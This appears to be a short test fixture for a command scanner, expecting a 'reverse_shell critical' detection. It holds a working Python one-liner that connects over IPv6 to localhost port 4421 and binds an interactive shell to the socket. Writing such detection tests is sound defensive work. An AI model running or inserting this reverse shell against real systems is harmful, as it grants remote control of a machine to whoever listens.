# about: over IPv6
# expect: reverse_shell critical
# needs: python3
peer 4421 tcp6
python3 -c 'import socket,os,subprocess
s=socket.create_connection(("::1",4421))
for fd in 0,1,2: os.dup2(s.fileno(),fd)
subprocess.call(["sh","-i"])' || true
done_typing
